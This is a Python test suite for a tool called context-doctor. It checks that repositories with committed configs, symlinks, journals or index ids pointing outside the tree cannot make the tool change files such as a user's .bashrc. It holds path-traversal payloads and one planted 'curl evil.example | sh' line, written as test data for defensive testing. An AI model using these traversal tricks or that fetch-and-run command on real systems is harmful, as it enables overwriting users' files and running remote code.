"""Containment (docs/caches.md): nothing from the audited tree makes the doctor write or read outside it.

Each test builds the attack as a hostile repository would ship it: a real git repository
with a committed config or a committed symlink, next to an ``outside`` directory standing
for the user's home. The property: the outside tree is byte-for-byte what it was.
"""

from __future__ import annotations

import hashlib
import json
import os
import tempfile
from pathlib import Path
from typing import Any

import pytest
from conftest import Run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import Doctor, git

NOW = "2026-06-10T09:30:00+02:00"

NOTES = """\
---
convention: pai-freshness-v1
last_updated: 2026-06-01T09:00:00+02:00
last_updated_by: kai
last_reviewed: 2026-05-01T09:00:00+02:00
last_reviewed_by: kai
---
# Notes

## Goals
<!-- updated: 2026-05-01 by:kai -->

Ship the doctor.
"""

CONTEXT = """\
# Beta

**Phase:** Build (round 2)
**Status:** Active
**Last session:** 2026-06-01

## Current State

Writing the parser.
"""

BASHRC = "# the user's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"
PLAIN = "# Plain\n"


def snapshot(root: Path) -> dict[str, tuple[str, bytes | str]]:
    """Every entry under ``root``: kind and bytes (files), target (links), nothing (dirs)."""
    found: dict[str, tuple[str, bytes | str]] = {}
    for parent, directories, names in os.walk(root):
        for name in directories + names:
            path = Path(parent) / name
            key = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[key] = ("link", os.readlink(path))
            elif path.is_dir():
                found[key] = ("dir", "")
            else:
                found[key] = ("file", path.read_bytes())
    return found


def commit(root: Path, files: dict[str, str], links: dict[str, str] | None = None) -> Path:
    """A real git repository holding ``files`` and ``links`` (name -> target), committed."""
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    for name, target in (links or {}).items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "hostile", identity=True, when=NOW)
    return root


def contained(
    doctor: Doctor, tree: Path, *args: str, cwd: Path | None = None, repository: str | None = None
) -> Run:
    """``context-doctor ARGS``, then the property: not a byte under ``tree`` changed (but
    under ``tree / repository``, the audited repository, when the tree holds it)."""

    def outside_the_repository() -> dict[str, tuple[str, bytes | str]]:
        found = snapshot(tree)
        return {key: value for key, value in found.items() if key.split("/")[0] != repository}

    before = outside_the_repository()
    run = doctor(*args, cwd=cwd)
    assert outside_the_repository() == before, (args, run.stdout, run.stderr)
    return run


def assert_refused_outside(run: Run) -> None:
    """A writer's one refusal of a path that leads out of the repository (rule ``outside``)."""
    assert run.exit_code == 1, run.stdout + run.stderr
    assert "[outside]" in run.stderr


def reviewing(notes: Path, *options: str) -> tuple[str, ...]:
    """``freshness review NOTES``, as ``me`` at ``NOW``."""
    return ("freshness", "review", str(notes), "--by", "me", "--now", NOW, *options)


def set_phase(context: Path) -> tuple[str, ...]:
    """``edit set-field`` moving a CONTEXT.md's Phase on a round."""
    return ("edit", "set-field", str(context), "--field", "Phase", "--value", "Build (round 3)")


def migrating(plain: Path) -> tuple[str, ...]:
    """``freshness migrate PLAIN`` at ``NOW``."""
    return ("freshness", "migrate", str(plain), "--now", NOW)


def beta_linked_out(tmp_path: Path, files: dict[str, str] | None = None) -> Path:
    """A repository whose project ``beta`` is a committed link to the user's home."""
    files = {"projects/alpha/CONTEXT.md": CONTEXT, **(files or {})}
    return commit(tmp_path / "kb", files, {"projects/beta": "../../home"})


def with_repository(command: tuple[str, ...], repo: Path) -> tuple[str, ...]:
    """A command template with ``{kb}`` naming the repository."""
    return tuple(arg.replace("{kb}", str(repo)) for arg in command)


LOG_ADD = ("log", "add", "{kb}", "--date", "2026-06-09", "--title", "Lexer done", "--today",
           "2026-06-10")  # fmt: skip


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """The user's home beside the repository: a shell start-up file and some notes."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(BASHRC, encoding="utf-8")
    (home / "notes.md").write_text(NOTES, encoding="utf-8")
    (home / "CONTEXT.md").write_text(CONTEXT, encoding="utf-8")
    return home


# -- the critical one: a committed config names a file outside as the statusline cache ---------


@pytest.mark.parametrize("shape", ["relative", "absolute", "through-a-link"])
@pytest.mark.parametrize("writer", ["review", "touch", "review-section"])
def test_a_repository_config_cannot_make_a_freshness_writer_overwrite_a_file_outside(
    tmp_path: Path, outside: Path, doctor: Doctor, shape: str, writer: str
) -> None:
    cache = {
        "relative": "../home/.bashrc",
        "absolute": str(outside / ".bashrc"),
        "through-a-link": "state/.bashrc",
    }[shape]
    links = {"state": "../home"} if shape == "through-a-link" else {}
    repo = commit(
        tmp_path / "kb",
        {"NOTES.md": NOTES, "context-doctor.toml": f'[freshness]\ncache = "{cache}"\n'},
        links,
    )
    args = ["freshness", writer, str(repo / "NOTES.md")]
    args += ["goals"] if writer == "review-section" else []
    run = contained(doctor, outside, *args, "--by", "me", "--now", NOW)
    assert run.exit_code == 2, run.stdout + run.stderr
    assert "outside the repository" in run.stderr
    assert "[freshness] cache" in run.stderr or "freshness.cache" in run.stderr
    # Refused before a byte moved: the file itself was not bumped either.
    assert (repo / "NOTES.md").read_text(encoding="utf-8") == NOTES


def test_a_pyproject_table_is_held_to_the_same_rule(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    repo = commit(
        tmp_path / "kb",
        {
            "NOTES.md": NOTES,
            "pyproject.toml": '[tool.context-doctor.freshness]\ncache = "../home/.bashrc"\n',
        },
    )
    run = contained(doctor, outside, *reviewing(repo / "NOTES.md"))
    assert run.exit_code == 2 and "outside the repository" in run.stderr


def test_a_cache_inside_the_repository_is_still_rewritten(tmp_path: Path, doctor: Doctor) -> None:
    repo = commit(
        tmp_path / "kb",
        {"NOTES.md": NOTES, "context-doctor.toml": '[freshness]\ncache = ".cache/fresh.json"\n'},
    )
    run = doctor(*reviewing(repo / "NOTES.md"))
    assert run.exit_code == 0, run.stderr
    assert (repo / ".cache" / "fresh.json").is_file()


def test_a_config_the_user_names_may_put_the_cache_anywhere(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    repo = commit(tmp_path / "kb", {"NOTES.md": NOTES})
    user_config = tmp_path / "user" / "context-doctor.toml"
    user_config.parent.mkdir()
    user_config.write_text('[freshness]\ncache = "../home/fresh.json"\n', encoding="utf-8")
    run = doctor(*reviewing(repo / "NOTES.md", "--config", str(user_config)))
    assert run.exit_code == 0, run.stderr
    assert (outside / "fresh.json").is_file()


def test_check_refuses_a_repository_config_naming_paths_outside(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    for key, value in [
        ("baseline", '"../home/baseline.json"'),
        ("freshness", '{ cache = "../home/.bashrc" }'),
        ("freshness", '{ registry = [{ slug = "notes", path = "../home/notes.md" }] }'),
    ]:
        repo = commit(
            tmp_path / f"kb-{len(list(tmp_path.iterdir()))}",
            {"projects/alpha/CONTEXT.md": CONTEXT, "context-doctor.toml": f"{key} = {value}\n"},
        )
        run = doctor("check", str(repo), "--today", "2026-06-10")
        assert run.exit_code == 2, (key, value, run.stdout, run.stderr)
        assert "outside the repository" in run.stderr, run.stderr


# -- derived_from reads nothing outside -----------------------------------------------------


def test_derived_from_outside_the_repository_is_never_read(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    derived = NOTES.replace("convention:", "derived_from: ../home/notes.md\nconvention:").replace(
        "last_reviewed: 2026-05-01T09:00:00+02:00\nlast_reviewed_by: kai\n", ""
    )
    repo = commit(tmp_path / "kb", {"DERIVED.md": derived})
    run = doctor("freshness", str(repo), "--today", "2026-06-10")
    assert "[freshness-source-missing] derived_from `../home/notes.md` leads outside" in run.stderr
    reviewed = doctor(*reviewing(repo / "DERIVED.md"))
    assert reviewed.exit_code == 2
    assert str(outside) not in reviewed.stderr  # not even whether it exists


# -- every writer refuses a symlinked directory alike -----------------------------------------


def test_the_editor_refuses_to_write_through_a_symlinked_directory(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    repo = beta_linked_out(tmp_path)
    run = contained(doctor, outside, *set_phase(repo / "projects" / "beta" / "CONTEXT.md"))
    assert_refused_outside(run)


def test_a_symlinked_doctor_directory_is_not_used(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    repo = commit(tmp_path / "kb", {"projects/alpha/CONTEXT.md": CONTEXT, "PLAIN.md": PLAIN})
    (repo / ".git" / "context-doctor").symlink_to(outside)
    # No cache written through the link.
    run = contained(doctor, outside, "check", str(repo), "--today", "2026-06-10", "--debug")
    assert run.exit_code in (0, 1), run.stderr
    assert "not cached" in run.stderr and "is a symlink" in run.stderr
    migrate = contained(doctor, outside, *migrating(repo / "PLAIN.md"))
    assert migrate.exit_code == 2, migrate.stdout + migrate.stderr
    assert "is a symlink" in migrate.stderr
    assert (repo / "PLAIN.md").read_text(encoding="utf-8") == PLAIN  # nothing written


@pytest.mark.parametrize("linked", ["cache", "backups"])
def test_a_symlinked_directory_inside_the_doctors_directory_is_not_written_through(
    tmp_path: Path, outside: Path, doctor: Doctor, linked: str
) -> None:
    repo = commit(tmp_path / "kb", {"projects/alpha/CONTEXT.md": CONTEXT, "PLAIN.md": PLAIN})
    (repo / ".git" / "context-doctor").mkdir()
    (repo / ".git" / "context-doctor" / linked).symlink_to(outside)
    run = contained(doctor, outside, "check", str(repo), "--today", "2026-06-10")
    assert run.exit_code in (0, 1), run.stderr
    migrate = contained(doctor, outside, *migrating(repo / "PLAIN.md"))
    if linked == "backups":
        assert migrate.exit_code == 1 and "[outside]" in migrate.stderr, migrate.stderr
        assert (repo / "PLAIN.md").read_text(encoding="utf-8") == PLAIN


def test_edit_apply_and_log_add_refuse_a_project_symlinked_out(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    repo = beta_linked_out(tmp_path)
    edits = tmp_path / "edits.json"
    target = str(repo / "projects" / "beta" / "CONTEXT.md")
    edits.write_text(
        json.dumps(
            [
                {"op": "set-field", "file": target, "field": "Phase", "value": "Build (round 3)"},
                {"op": "replace", "file": target, "anchor": "parser", "replacement": "lexer"},
            ]
        ),
        encoding="utf-8",
    )
    applied = contained(doctor, outside, "edit", "apply", "--edits", str(edits))
    assert_refused_outside(applied)
    logged = contained(doctor, outside, *with_repository(LOG_ADD, repo / "projects" / "beta"))
    assert logged.exit_code in (1, 2), logged.stdout + logged.stderr


def test_check_fix_refuses_an_index_reached_through_a_symlinked_projects_directory(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    index = "- id: alpha\n  status: complete\n  completed_date: 2026-06-01\n"
    (outside / "projects" / "alpha").mkdir(parents=True)
    (outside / "projects" / "index.yaml").write_text(index, encoding="utf-8")
    (outside / "projects" / "alpha" / "CONTEXT.md").write_text(CONTEXT, encoding="utf-8")
    repo = commit(tmp_path / "kb", {"README.md": "# kb\n"}, {"projects": "../home/projects"})
    contained(doctor, outside, "check", "--source", str(repo), "--today", "2026-06-10", "--fix")


def test_a_committed_apply_journal_cannot_move_a_file_outside(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    # The worst case: the batch's "staged" bytes already sit outside (planted some other
    # way); a journal committed to the repository names the target through a link.
    planted = b"curl evil.example | sh\n"
    staged = ".evil.sh.context-doctor-apply-0123abcd.staged"
    (outside / staged).write_bytes(planted)
    journal = {
        "version": 1,
        "committed": True,
        "files": [
            {
                "path": "link/evil.sh",
                "staged": staged,
                "old": None,
                "new": hashlib.sha256(planted).hexdigest(),
            }
        ],
    }
    repo = commit(
        tmp_path / "kb",
        {
            "projects/alpha/CONTEXT.md": CONTEXT,
            "projects/alpha/.context-doctor-apply-0123abcd.journal": json.dumps(journal),
        },
        {"projects/alpha/link": "../../../home"},
    )
    run = contained(doctor, outside, *set_phase(repo / "projects" / "alpha" / "CONTEXT.md"))
    assert run.exit_code == 2, run.stdout + run.stderr
    assert "outside the project" in run.stderr
    assert not (outside / "evil.sh").exists()


# -- the property: no run of any writer changes a byte outside ---------------------------------

OUTSIDE_LINK = "out"  # a committed symlink to the outside tree, at the repository's top

WRITERS: dict[str, tuple[str, ...]] = {
    "review": ("freshness", "review", "{kb}/NOTES.md", "--by", "me", "--now", NOW),
    "touch": ("freshness", "touch", "{kb}/NOTES.md", "--by", "me", "--now", NOW),
    "review-section": (
        "freshness", "review-section", "{kb}/NOTES.md", "goals", "--by", "me", "--now", NOW,
    ),
    "migrate": ("freshness", "migrate", "{kb}/PLAIN.md", "--now", NOW),
    "summary": ("freshness", "{kb}", "--today", "2026-06-10"),
    "set-field": (
        "edit", "set-field", "{kb}/projects/{project}/CONTEXT.md",
        "--field", "Phase", "--value", "Build (round 3)",
    ),
    "log-add": (
        "log", "add", "{kb}/projects/{project}", "--date", "2026-06-09", "--title", "parser",
        "--today", "2026-06-10",
    ),
    "state-init": ("state", "init", "{kb}/projects/{project}", "--now", NOW),
    "check": ("check", "--source", "{kb}", "--today", "2026-06-10"),
    "fix": ("check", "--source", "{kb}", "--today", "2026-06-10", "--fix", "--unsafe-fixes"),
    "write-baseline": ("check", "--source", "{kb}", "--today", "2026-06-10", "--write-baseline"),
}  # fmt: skip

# Paths a hostile config or file may name: out of the tree three ways, and inside it.
HOSTILE_PATHS = st.sampled_from(
    ["../outside/{name}", "{outside}/{name}", f"{OUTSIDE_LINK}/{{name}}", "inside/{name}"]
)


@st.composite
def hostile_repositories(draw: st.DrawFn) -> dict[str, Any]:
    def maybe_path(name: str) -> str | None:
        chosen = draw(st.none() | HOSTILE_PATHS)
        return None if chosen is None else chosen.replace("{name}", name)

    return {
        "config": draw(st.sampled_from([None, "context-doctor.toml", "pyproject.toml"])),
        "cache": maybe_path(".bashrc"),
        "baseline": maybe_path("baseline.json"),
        "registry": maybe_path("notes.md"),
        "derived_from": maybe_path("notes.md"),
        "beta": draw(st.sampled_from(["directory", "symlink"])),
        "doctor_directory_link": draw(st.booleans()),
        "project": draw(st.sampled_from(["alpha", "beta"])),
    }


def _config_text(shape: dict[str, Any], outside: Path) -> str:
    def quoted(value: str) -> str:
        return json.dumps(value.replace("{outside}", str(outside)))

    lines = []
    if shape["baseline"]:
        lines.append(f"baseline = {quoted(shape['baseline'])}")
    if shape["cache"] or shape["registry"]:
        lines.append("[freshness]")
        if shape["cache"]:
            lines.append(f"cache = {quoted(shape['cache'])}")
        if shape["registry"]:
            lines.append(f'registry = [{{ slug = "notes", path = {quoted(shape["registry"])} }}]')
    text = "\n".join(lines) + "\n"
    if shape["config"] == "pyproject.toml":
        text = text.replace("[freshness]", "[tool.context-doctor.freshness]")
        text = "[tool.context-doctor]\n" + text
    return text


def build_hostile(base: Path, shape: dict[str, Any]) -> tuple[Path, Path]:
    """The outside tree and the hostile repository beside it, as ``shape`` says."""
    outside = base / "outside"
    outside.mkdir()
    for name, text in {
        ".bashrc": BASHRC,
        "notes.md": NOTES,
        "CONTEXT.md": CONTEXT,
        "baseline.json": "[]\n",
        "sessions/2026-06.md": "# 2026-06\n\n## 2026-06-01 — start\n\nBegun.\n",
    }.items():
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_text(text, encoding="utf-8")
    notes = NOTES
    if shape["derived_from"]:
        derived = shape["derived_from"].replace("{outside}", str(outside))
        notes = notes.replace("convention:", f"derived_from: {json.dumps(derived)}\nconvention:")
    files = {
        "projects/alpha/CONTEXT.md": CONTEXT,
        "NOTES.md": notes,
        "PLAIN.md": PLAIN,
        "inside/notes.md": NOTES,
    }
    if shape["beta"] == "directory":
        files["projects/beta/CONTEXT.md"] = CONTEXT
    if shape["config"] is not None:
        files[shape["config"]] = _config_text(shape, outside)
    links = {OUTSIDE_LINK: "../outside"}
    if shape["beta"] == "symlink":
        links["projects/beta"] = "../../outside"
    repo = commit(base / "kb", files, links)
    if shape["doctor_directory_link"]:
        (repo / ".git" / "context-doctor").symlink_to(outside)
    return outside, repo


@pytest.mark.parametrize("writer", sorted(WRITERS))
@settings(
    max_examples=3,  # per writer: every writer runs in every suite; more by hand, see below
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(shape=hostile_repositories())
def test_no_writer_changes_a_byte_outside_the_repository(
    doctor: Doctor, writer: str, shape: dict[str, Any]
) -> None:
    """Run by hand with many examples: ``HYPOTHESIS_PROFILE=large`` and a larger count here."""
    with tempfile.TemporaryDirectory(prefix="contain-") as scratch:
        outside, repo = build_hostile(Path(scratch), shape)
        command = with_repository(WRITERS[writer], repo)
        args = [arg.replace("{project}", shape["project"]) for arg in command]
        run = contained(doctor, outside, *args, cwd=repo)
        assert run.exit_code in (0, 1, 2), run.stdout + run.stderr
        assert "Traceback" not in run.stderr


def test_index_ids_that_leave_the_projects_directory_name_no_project(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    index = "".join(
        f"- id: {json.dumps(project_id)}\n  status: complete\n  completed_date: 2026-06-01\n"
        for project_id in ("../../home", str(outside), "alpha/../../../home", "alpha")
    )
    repo = commit(
        tmp_path / "kb", {"projects/index.yaml": index, "projects/alpha/CONTEXT.md": CONTEXT}
    )
    run = contained(
        doctor, outside, "check", "--source", str(repo), "--today", "2026-06-10", "--fix",
        "--unsafe-fixes", "--output-format", "json",
    )  # fmt: skip
    assert run.exit_code in (0, 1), run.stdout + run.stderr
    assert all(not finding["path"].startswith(("/", "..")) for finding in run.json["findings"])
    # An entry whose id names no directory is reported against the index, not a project.
    assert {finding["project"] for finding in run.json["findings"]} <= {"alpha", f"({repo.name})"}


# -- round three: a project at the repository's top is contained by that top ------------

TOP_CONTEXT = CONTEXT.replace("**Last session:** 2026-06-01", "**Last session:** 2026-06-01")
MONTH_LOG = "# Session Archive — June 2026\n\n## 2026-06-01 — Parser started\n\nWrote the lexer.\n"
PARENT_INDEX = "- id: kb\n  status: active\n  last_session: 2026-06-01\n"


@pytest.fixture
def beside(tmp_path: Path) -> Path:
    """The folder holding the repository: another tree of the user's, and an index.yaml."""
    other = tmp_path / "other"
    (other / "sessions").mkdir(parents=True)
    (other / "sessions" / "2026-06.md").write_text(MONTH_LOG, encoding="utf-8")
    (other / "notes.md").write_text("# Notes\n\nShip the doctor.\n", encoding="utf-8")
    (tmp_path / "index.yaml").write_text(PARENT_INDEX, encoding="utf-8")
    return tmp_path


def test_log_add_refuses_a_sessions_folder_linked_out_of_a_top_level_project(
    beside: Path, doctor: Doctor
) -> None:
    repo = commit(beside / "kb", {"CONTEXT.md": CONTEXT}, {"sessions": "../other/sessions"})
    run = contained(doctor, beside, *with_repository(LOG_ADD, repo), repository="kb")
    assert_refused_outside(run)


def test_set_header_never_rewrites_the_index_beside_a_top_level_project(
    beside: Path, doctor: Doctor
) -> None:
    repo = commit(beside / "kb", {"CONTEXT.md": CONTEXT, "sessions/2026-06.md": MONTH_LOG})
    command = with_repository((*LOG_ADD, "--set-header"), repo)
    run = contained(doctor, beside, *command, repository="kb")
    assert run.exit_code == 0, run.stdout + run.stderr
    assert "**Last session:** 2026-06-09" in (repo / "CONTEXT.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("operation", ["replace", "insert-before", "delete-line"])
def test_the_editor_refuses_a_file_linked_out_of_a_top_level_project(
    beside: Path, doctor: Doctor, operation: str
) -> None:
    repo = commit(beside / "kb", {"CONTEXT.md": CONTEXT}, {"linked": "../other"})
    target = str(repo / "linked" / "notes.md")
    arguments = {
        "replace": ["--anchor", "Ship the doctor.", "--replacement", "Ship it now."],
        "insert-before": ["--anchor", "Ship the doctor.", "--text", "A planted line.\n"],
        "delete-line": ["--anchor", "Ship the doctor."],
    }[operation]
    run = contained(doctor, beside, "edit", operation, target, *arguments, repository="kb")
    assert_refused_outside(run)


def test_state_refuses_a_project_directory_linked_out(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    # The link leads into a repository of the user's own (dotfiles kept in git).
    commit(outside, {"sessions/2026-06.md": MONTH_LOG})
    repo = beta_linked_out(tmp_path, {"projects/index.yaml": "- id: alpha\n- id: beta\n"})
    beta = str(repo / "projects" / "beta")
    run = contained(doctor, outside, "state", "init", beta, "--plan", "CONTEXT.md")
    assert_refused_outside(run)


def test_a_repository_reached_through_a_committed_link_is_not_the_containment_root(
    tmp_path: Path, outside: Path, doctor: Doctor
) -> None:
    # `projects -> ~` and the user's ~/dotfiles is a repository of its own: the project
    # "dotfiles" must be contained by the hostile repository, not by ~/dotfiles.
    dotfiles = commit(outside / "dotfiles", {"CONTEXT.md": CONTEXT})
    repo = commit(tmp_path / "kb", {"README.md": "# kb\n"}, {"projects": "../home"})
    (outside / "index.yaml").write_text("- id: dotfiles\n", encoding="utf-8")
    run = contained(doctor, dotfiles, *set_phase(repo / "projects" / "dotfiles" / "CONTEXT.md"))
    assert_refused_outside(run)


# -- round three: every writer, on every single-project layout, against links out -------

DERIVED = NOTES.replace("convention:", 'derived_from: "notes.md"\nconvention:')
ORPHAN_REFERENCE = "# Reference\n\n- [api](reference/api.md)\n"
MEMORY_BANK_CONTEXT = "# Active context\n\n**Last updated:** 2026-06-01\n\nWriting the parser.\n"
PROGRESS = "# Progress\n\n## 2026-06-01 — Parser started\n\nWrote the lexer.\n"
PLAN = "# Plan\n\n1. Write the parser.\n"
FIX = ("check", "{kb}", "--today", "2026-06-10", "--fix", "--unsafe-fixes")


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """The user's own files beside the repository, each a target a link could lead a writer to."""
    home = tmp_path / "outside"
    for name, text in {
        "sessions/2026-06.md": MONTH_LOG,
        "CONTEXT.md": CONTEXT,
        "STATUS.md": CONTEXT,
        "notes.md": NOTES,
        "derived.md": DERIVED,
        "REFERENCE.md": ORPHAN_REFERENCE,
        "progress.md": PROGRESS,
        "activeContext.md": MEMORY_BANK_CONTEXT,
    }.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text, encoding="utf-8")
    return home


# id -> (files, links, command); `{kb}` is the repository. Every layout whose project is the
# repository's top: the seed's root CONTEXT.md, a single working-memory file, a memory bank.
SINGLE_PROJECT_WRITERS: dict[str, tuple[dict[str, str], dict[str, str], tuple[str, ...]]] = {
    "log-add/sessions-dir": ({"CONTEXT.md": CONTEXT}, {"sessions": "../outside/sessions"}, LOG_ADD),
    "log-add/month-file": (
        {"CONTEXT.md": CONTEXT, "sessions/2026-05.md": MONTH_LOG},
        {"sessions/2026-06.md": "../../outside/sessions/2026-06.md"},
        LOG_ADD,
    ),
    "log-add/set-header-context-file": (
        {"sessions/2026-06.md": MONTH_LOG}, {"CONTEXT.md": "../outside/CONTEXT.md"},
        (*LOG_ADD, "--set-header"),
    ),
    "log-add/set-header-sessions-dir": (
        {"CONTEXT.md": CONTEXT}, {"sessions": "../outside/sessions"}, (*LOG_ADD, "--set-header"),
    ),
    "set-field/context-file": (
        {"README.md": "# kb\n"}, {"CONTEXT.md": "../outside/CONTEXT.md"},
        ("edit", "set-field", "{kb}/CONTEXT.md", "--field", "Phase", "--value", "Ship"),
    ),
    "set-field/linked-dir": (
        {"CONTEXT.md": CONTEXT}, {"linked": "../outside"},
        ("edit", "set-field", "{kb}/linked/CONTEXT.md", "--field", "Phase", "--value", "Ship"),
    ),
    "replace/file": (
        {"CONTEXT.md": CONTEXT}, {"notes.md": "../outside/notes.md"},
        ("edit", "replace", "{kb}/notes.md", "--anchor", "Ship the doctor.",
         "--replacement", "Ship it now."),
    ),
    "review/file": (
        {"CONTEXT.md": CONTEXT}, {"notes.md": "../outside/notes.md"},
        ("freshness", "review", "{kb}/notes.md", "--by", "me", "--now", NOW),
    ),
    "review/linked-dir": (
        {"CONTEXT.md": CONTEXT}, {"linked": "../outside"},
        ("freshness", "review", "{kb}/linked/notes.md", "--by", "me", "--now", NOW),
    ),
    "review-section/file": (
        {"CONTEXT.md": CONTEXT}, {"notes.md": "../outside/notes.md"},
        ("freshness", "review-section", "{kb}/notes.md", "goals", "--by", "me", "--now", NOW),
    ),
    "review-section/linked-dir": (
        {"CONTEXT.md": CONTEXT}, {"linked": "../outside"},
        ("freshness", "review-section", "{kb}/linked/notes.md", "goals", "--by", "me",
         "--now", NOW),
    ),
    "touch/file": (
        {"CONTEXT.md": CONTEXT}, {"notes.md": "../outside/notes.md"},
        ("freshness", "touch", "{kb}/notes.md", "--by", "me", "--now", NOW),
    ),
    "state-init/state-file": (
        {"CONTEXT.md": CONTEXT, "sessions/2026-06.md": MONTH_LOG, "PLAN.md": PLAN},
        {"CURRENT_STATE.json": "../outside/CURRENT_STATE.json"},
        ("state", "init", "{kb}", "--plan", "PLAN.md", "--now", NOW),
    ),
    "state-compile/state-file": (
        {"CONTEXT.md": CONTEXT, "sessions/2026-06.md": MONTH_LOG, "PLAN.md": PLAN},
        {"CURRENT_STATE.json": "../outside/CURRENT_STATE.json"},
        ("state", "compile", "{kb}", "--now", NOW),
    ),
    "state-compile/context-file": (
        {"sessions/2026-06.md": MONTH_LOG, "PLAN.md": PLAN, "CURRENT_STATE.json": "{state}"},
        {"CONTEXT.md": "../outside/CONTEXT.md"},
        ("state", "compile", "{kb}", "--now", NOW),
    ),
    "fix/reference-index": (
        {"CONTEXT.md": CONTEXT, "reference/api.md": "# API\n", "reference/orphan.md": "# O\n"},
        {"REFERENCE.md": "../outside/REFERENCE.md"},
        FIX,
    ),
    "fix/derived-review": (
        {"CONTEXT.md": CONTEXT, "notes.md": NOTES}, {"derived.md": "../outside/derived.md"},
        FIX,
    ),
    "fix/linked-dir": (
        {"CONTEXT.md": CONTEXT, "notes.md": NOTES}, {"linked": "../outside"}, FIX,
    ),
    "single-file/log-add": (
        {"STATUS.md": CONTEXT}, {"sessions": "../outside/sessions"}, (*LOG_ADD, "--set-header"),
    ),
    "single-file/set-field": (
        {"README.md": "# kb\n", "docs/sessions/2026-06.md": MONTH_LOG},
        {"STATUS.md": "../outside/STATUS.md"},
        ("edit", "set-field", "{kb}/STATUS.md", "--field", "Phase", "--value", "Ship"),
    ),
    "memory-bank/log-add": (
        {"memory-bank/activeContext.md": MEMORY_BANK_CONTEXT},
        {"memory-bank/progress.md": "../../outside/progress.md"},
        (*LOG_ADD, "--set-header"),
    ),
    "memory-bank/set-header": (
        {"memory-bank/progress.md": PROGRESS},
        {"memory-bank/activeContext.md": "../../outside/activeContext.md"},
        (*LOG_ADD, "--set-header"),
    ),
}  # fmt: skip


def valid_state_file(base: Path, doctor: Doctor) -> str:
    """A CURRENT_STATE.json `state init` writes for the top-level project CONTEXT describes."""
    scratch = commit(
        base / "scratch",
        {"CONTEXT.md": CONTEXT, "sessions/2026-06.md": MONTH_LOG, "PLAN.md": PLAN},
    )
    run = doctor("state", "init", str(scratch), "--plan", "PLAN.md", "--now", NOW)
    assert run.exit_code == 0, run.stdout + run.stderr
    return (scratch / "CURRENT_STATE.json").read_text(encoding="utf-8")


@pytest.mark.parametrize("case", sorted(SINGLE_PROJECT_WRITERS))
def test_no_writer_follows_a_link_out_of_a_top_level_project(
    tmp_path: Path, elsewhere: Path, doctor: Doctor, case: str
) -> None:
    """A committed directory link (`sessions -> ../outside/sessions`) or file link, for every
    writer: a one-line refusal (`check --fix`: findings), and not a byte outside changes."""
    files, links, command = SINGLE_PROJECT_WRITERS[case]
    if "{state}" in files.values() or case == "state-compile/state-file":
        state = valid_state_file(tmp_path, doctor)
        (elsewhere / "CURRENT_STATE.json").write_text(state, encoding="utf-8")
        files = {name: state if text == "{state}" else text for name, text in files.items()}
    repo = commit(tmp_path / "kb", files, links)
    run = contained(doctor, elsewhere, *with_repository(command, repo), cwd=repo)
    assert "Traceback" not in run.stderr
    if command[0] != "check":  # a writer refuses in one line; `check --fix` reports findings
        assert run.exit_code in (1, 2), run.stdout + run.stderr
        assert len(run.stderr.strip().splitlines()) == 1, run.stderr
        assert "refused [" in run.stderr
    else:
        assert run.exit_code == 1, run.stdout + run.stderr
